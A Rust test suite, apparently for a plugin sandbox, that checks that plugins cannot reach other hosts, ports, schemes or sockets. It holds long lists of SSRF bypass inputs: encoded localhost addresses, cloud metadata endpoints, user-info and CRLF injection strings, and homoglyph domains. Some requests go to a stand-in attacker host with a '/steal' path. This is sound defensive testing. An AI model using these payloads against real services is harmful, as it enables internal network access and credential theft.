//! The plugin asks for another host, another port or another scheme, spelled in every way.

use actionbox_host::NotARoute;
use actionbox_tests::{
    attacks,
    listener::Listener,
    played_by,
    scoreboard::{BUSY, Case, Hole},
};
use serde_json::{Value, json};

use crate::{
    attempt::{Fate, attempt_in},
    cell::Cell,
};

attacks! {
    "Another destination":
        "The plugin asks for another host, port, scheme or authority, or opens a socket of its own. No connection is \
         opened, to nowhere, and no credential is touched.",
    cases,
    play,
    nothing_leaves_for_another_destination on BUSY,
}

played_by!(
    connect_a_socket => nothing_leaves_for_another_destination,
    search_and_trap => nothing_leaves_for_another_destination,
);

const UNGUARDED: [Hole; 2] = [
    Hole {
        what: "ZeroClaw before #8130: plugins with the HTTP permission reach localhost, private networks and the \
               metadata service",
        url: "https://github.com/zeroclaw-labs/zeroclaw/pull/8130",
    },
    Hole {
        what: "OpenCrust: WASM plugins reach localhost and the metadata service",
        url: "https://github.com/opencrust-org/opencrust/issues/97",
    },
];

const ANY_HOST: [Hole; 2] = [
    Hole {
        what: "Extism before #315: without a list of hosts, plugins reach every one",
        url: "https://github.com/extism/extism/pull/315",
    },
    Hole {
        what: "Carina: WASM provider plugins have unrestricted HTTP and sockets",
        url: "https://github.com/carina-rs/carina/issues/1472",
    },
];

const SIBLING: [Hole; 1] = [Hole {
    what: "Spin before #3016: requests to other components of the application pass by the list of hosts",
    url: "https://github.com/spinframework/spin/pull/3016",
}];

const USER_INFO: [Hole; 2] = [
    Hole {
        what: "browser-use before #1561: user-info in a URL passes for an allowed host",
        url: "https://github.com/browser-use/browser-use/pull/1561",
    },
    Hole {
        what: "sandlock, in review of #127: a credential follows user-info to another host",
        url: "https://github.com/multikernel/sandlock/pull/127",
    },
];

/// A way out that a plugin tries. `PORT` is that of a listener which must not hear of it, `UPSTREAM` that of
/// the upstream itself.
enum Way {
    Request(Value, Fate),
    /// Sockets and names, beside HTTP.
    Socket(&'static str),
}

/// Authorities that parse and are not the upstream's.
const OTHERS: &[(&str, &[&str])] = &[
    (
        "a look-alike",
        &[
            "evil.example",
            "app.refold.ai.evil.example",
            "evil.example.app.refold.ai",
            "xapp.refold.ai",
            "app-refold.ai",
            "app_refold.ai",
            "app.refold.aix",
            "app.refold.a",
            "refold.ai",
            "www.app.refold.ai",
            "app.gocobalt.io",
            "app.refold.ai,evil.example",
            "app.refold.ai;evil.example",
            "app.refold.ai&evil.example",
            "app.refold.ai=evil.example",
            "app.refold.ai!",
            "app.refold.ai'",
            "app.refold.ai*",
            "*.refold.ai",
            "xn--pp-6kc.refold.ai",
            "xn--app-refold-ai.example",
        ],
    ),
    (
        "another spelling",
        &[
            "APP.REFOLD.AI",
            "App.refold.ai",
            "app.refold.aI",
            "app.refold.ai.",
            "app.refold.ai..",
            ".app.refold.ai",
            "app..refold.ai",
        ],
    ),
    (
        "a port",
        &[
            "app.refold.ai:443",
            "app.refold.ai:0443",
            "app.refold.ai:80",
            "app.refold.ai:8443",
            "app.refold.ai:0",
            "app.refold.ai:65535",
            "app.refold.ai:PORT",
            "app.refold.ai:",
            "evil.example:443",
        ],
    ),
    (
        "user-info",
        &[
            "user@app.refold.ai",
            "user:pass@app.refold.ai",
            "@app.refold.ai",
            ":@app.refold.ai",
            "evil.example@app.refold.ai",
            "app.refold.ai@evil.example",
            "app.refold.ai:443@evil.example",
            "app.refold.ai:x@127.0.0.1:PORT",
            "app.refold.ai%40evil.example@127.0.0.1:PORT",
            "app.refold.ai%20@127.0.0.1:PORT",
            "app.refold.ai@127.0.0.1:PORT",
            "app.refold.ai@[::1]:PORT",
        ],
    ),
    (
        "this machine",
        &[
            "localhost",
            "localhost:PORT",
            "LOCALHOST:PORT",
            "localhost.:PORT",
            "ip6-localhost:PORT",
            "localhost.localdomain:PORT",
            "app.refold.ai.localhost:PORT",
            "127.0.0.1",
            "127.0.0.1:PORT",
            "127.0.0.1.:PORT",
            "127.1:PORT",
            "127.0.1:PORT",
            "127.0.0.01:PORT",
            "127.000.000.001:PORT",
            "127.127.127.127:PORT",
            "0177.0.0.1:PORT",
            "0177.0.0.01:PORT",
            "017700000001:PORT",
            "0x7f.0.0.1:PORT",
            "0x7f.1:PORT",
            "0x7f000001:PORT",
            "0X7F000001:PORT",
            "2130706433:PORT",
            "0:PORT",
            "0.0.0.0",
            "0.0.0.0:PORT",
            "[::1]",
            "[::1]:PORT",
            "[::]:PORT",
            "[0:0:0:0:0:0:0:1]:PORT",
            "[0000:0000:0000:0000:0000:0000:0000:0001]:PORT",
            "[::ffff:127.0.0.1]:PORT",
            "[::ffff:7f00:1]:PORT",
            "[::127.0.0.1]:PORT",
            "[64:ff9b::7f00:1]:PORT",
            "127.0.0.1.nip.io:PORT",
            "localtest.me:PORT",
            "127.0.0.1:UPSTREAM",
            "localhost:UPSTREAM",
            "[::ffff:127.0.0.1]:UPSTREAM",
        ],
    ),
    (
        "a private network",
        &[
            "10.0.0.1",
            "172.16.0.1",
            "192.168.0.1",
            "100.64.0.1",
            "198.18.0.1",
            "224.0.0.1",
            "255.255.255.255",
            "[fc00::1]",
            "[fe80::1]",
            "[ff02::1]",
            "kubernetes.default.svc",
            "host.docker.internal",
            "router.local",
        ],
    ),
    (
        "a metadata service",
        &[
            "169.254.169.254",
            "169.254.169.254:80",
            "169.254.169.254.",
            "169.254.170.2",
            "0xa9fea9fe",
            "2852039166",
            "0251.0376.0251.0376",
            "[::ffff:169.254.169.254]",
            "[fd00:ec2::254]",
            "100.100.100.200",
            "metadata",
            "metadata.google.internal",
            "instance-data.ec2.internal",
        ],
    ),
    (
        "hardly an authority",
        &[
            "[app.refold.ai]",
            "app.refold.ai:-1",
            "app.refold.ai:65536",
            "app.refold.ai:https",
            "app.refold.ai:+443",
            "[fe80::1%lo]:PORT",
            "[fe80::1%25lo]:PORT",
            "[]",
            "app.refold.ai@evil.example@127.0.0.1:PORT",
        ],
    ),
    ("a sibling", &["back.spin.internal", "self.alt", "actionbox", "actionbox.internal"]),
];

/// Authorities that are none.
const UNPARSABLE: &[(&str, &str)] = &[
    ("nothing", ""),
    ("a path", "app.refold.ai/"),
    ("a path that climbs", "app.refold.ai/.."),
    ("a fragment", "app.refold.ai#@evil.example"),
    ("a query", "app.refold.ai?@evil.example"),
    ("a backslash", "app.refold.ai\\@evil.example"),
    ("a backslash before a port", "127.0.0.1:PORT\\@app.refold.ai"),
    ("a new header", "app.refold.ai\r\nhost: evil.example"),
    ("a new request", "app.refold.ai\r\n\r\nGET / HTTP/1.1\r\nhost: evil.example\r\n\r\n"),
    ("a line feed", "app.refold.ai\nevil.example"),
    ("a space", "evil.example app.refold.ai"),
    ("a space at its end", "app.refold.ai "),
    ("a tab", "app.refold.ai\t"),
    ("NUL", "app.refold.ai\0.evil.example"),
    ("NUL, escaped", "app.refold.ai%00.evil.example"),
    ("dots, escaped", "app%2erefold%2eai"),
    ("letters, escaped", "%61pp.refold.ai"),
    ("an at sign, escaped", "app.refold.ai%40evil.example"),
    ("a bracket", "[::1"),
    ("a bracket too many", "[::1]]"),
    ("an address without brackets", "::1"),
    ("three parts", "a:b:c"),
    ("two ports", "app.refold.ai:443:PORT"),
    ("a scheme", "https://evil.example"),
    ("a socket", "unix:/var/run/docker.sock"),
    ("Cyrillic letters", "app.r\u{435}fold.ai"),
    ("a Cyrillic country", "app.refold.a\u{456}"),
    ("fullwidth letters", "\u{ff41}pp.refold.ai"),
    ("ideographic full stops", "app\u{3002}refold\u{3002}ai"),
    ("a ligature", "app.re\u{fb01}old.ai"),
    ("an invisible hyphen", "app.re\u{ad}fold.ai"),
    ("an invisible space", "app.refold.ai\u{200b}"),
    ("text from right to left", "app.refold.ai\u{202e}"),
    ("circled digits", "\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}:PORT"),
    ("digits of another script", "127.0.0.1:\u{664}\u{664}\u{663}"),
    ("a dotless country", "app.refold.a\u{131}"),
];

fn cases() -> Vec<Case<Way>> {
    let mut all = Vec::new();
    let asks = |request: Value, fate: Fate| Way::Request(request, fate);
    for (kind, hosts) in OTHERS {
        let holes: &[Hole] = match *kind {
            "user-info" => &USER_INFO,
            "this machine" | "a private network" | "a metadata service" => &UNGUARDED,
            "a sibling" => &SIBLING,
            "a look-alike" => &ANY_HOST,
            _ => &[],
        };
        all.extend(hosts.iter().map(|host| {
            let request = json!({ "authority": host });
            Case::new(format!("{kind}: {host}"), asks(request, NotARoute::Authority.into())).catches(holes)
        }));
    }
    all.extend(UNPARSABLE.iter().map(|(what, host)| {
        Case::new(
            format!("an authority that is none: {what}"),
            asks(json!({ "authority": host }), Fate::Unbuilt),
        )
    }));
    all.extend([("513 bytes", 513), ("70,000 bytes", 70_000), ("a megabyte", 1 << 20)].map(
        |(what, length)| {
            let request = json!({ "authority": "a".repeat(length) });
            Case::new(format!("an authority that is none: {what}"), asks(request, Fate::Unbuilt))
        },
    ));
    all.push(Case::new("no authority", asks(json!({ "authority": null }), Fate::Unbuilt)));
    for host in ["app.refold.ai", "app.refold.ai:80", "evil.example", "127.0.0.1:PORT", "127.0.0.1:UPSTREAM"]
    {
        for (scheme, fate) in
            [("http", NotARoute::Scheme.into()), ("HTTP", Fate::Unbuilt), ("ws", Fate::Unbuilt)]
        {
            let request = json!({ "scheme": scheme, "authority": host });
            all.push(Case::new(format!("{scheme} to {host}"), asks(request, fate)));
        }
    }
    for scheme in
        ["wss", "ftp", "file", "gopher", "dict", "ldap", "data", "javascript", "unix", "http+unix", "HTTPS"]
    {
        let request = json!({ "scheme": scheme });
        all.push(Case::new(format!("another scheme: {scheme}"), asks(request, Fate::Unbuilt)));
    }
    let body = r#"{"email":"mallory@example.com"}"#;
    for host in ["evil.example", "127.0.0.1:PORT", "app.refold.ai@127.0.0.1:PORT", "app.refold.ai."] {
        let request = json!({ "method": "POST", "authority": host, "body": body,
            "path": "/api/v2/integration-schema/hubspot/actions/create_contact/execute" });
        all.push(Case::new(format!("a write to {host}"), asks(request, NotARoute::Authority.into())));
        let request = json!({ "authority": host, "path": "/steal?everything" });
        all.push(Case::new(format!("anything to {host}"), asks(request, NotARoute::Authority.into())));
    }
    for address in [
        "127.0.0.1:PORT",
        "localhost:PORT",
        "0.0.0.0:PORT",
        "[::1]:PORT",
        "[::ffff:127.0.0.1]:PORT",
        "127.0.0.1:UPSTREAM",
    ] {
        let case = Case::new(format!("sockets and names: {address}"), Way::Socket(address));
        all.push(case.catches(&ANY_HOST[1..]));
    }
    all
}

async fn play(name: String, way: Way) {
    let cell = Cell::new(&name).await;
    let elsewhere = Listener::silent().await;
    let at = |text: &str| {
        let text = text.replace("PORT", &elsewhere.addr().port().to_string());
        text.replace("UPSTREAM", &cell.sandbox.addr().port().to_string())
    };
    match way {
        Way::Request(mut request, fate) => {
            if let Some(host) = request["authority"].as_str().map(at) {
                request["authority"] = host.into();
            }
            attempt_in(&cell, request, &fate).await;
        }
        Way::Socket(address) => {
            let worked = cell.play("connect_a_socket", json!({ "address": at(address) })).await;
            assert_eq!(worked.expect("a report"), json!([]), "what worked");
            cell.assert_untouched();
        }
    }
    assert_eq!(elsewhere.connections().await.expect("it listens"), 0, "somebody went there");
}
